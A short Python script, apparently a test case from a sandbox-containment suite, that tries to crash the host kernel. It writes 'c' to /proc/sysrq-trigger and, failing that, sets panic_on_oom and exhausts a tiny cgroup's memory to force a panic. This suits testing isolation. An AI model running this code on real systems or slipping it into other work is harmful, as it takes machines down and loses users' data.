# By the key for it; a kernel without that key by an end of memory that it is told to panic at.
import ctypes
import os
from attack import attempt, syscall


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


attempt("sysrq on", write, "/proc/sys/kernel/sysrq", "1")
print("crashing the kernel", flush=True)
attempt("sysrq c", write, "/proc/sysrq-trigger", "c")
attempt("panic at the end of memory", write, "/proc/sys/vm/panic_on_oom", "2")
os.makedirs("/tmp/groups", exist_ok=True)
kind, where = ctypes.c_char_p(b"cgroup2"), ctypes.c_char_p(b"/tmp/groups")
syscall(165, kind, where, kind, 0, 0)
write("/tmp/groups/cgroup.subtree_control", "+memory")
os.mkdir("/tmp/groups/small")
write("/tmp/groups/small/memory.max", str(8 << 20))
write("/tmp/groups/small/cgroup.procs", str(os.getpid()))
held = [b"\x5a" * (1 << 20) for _ in range(64)]
print("still here")
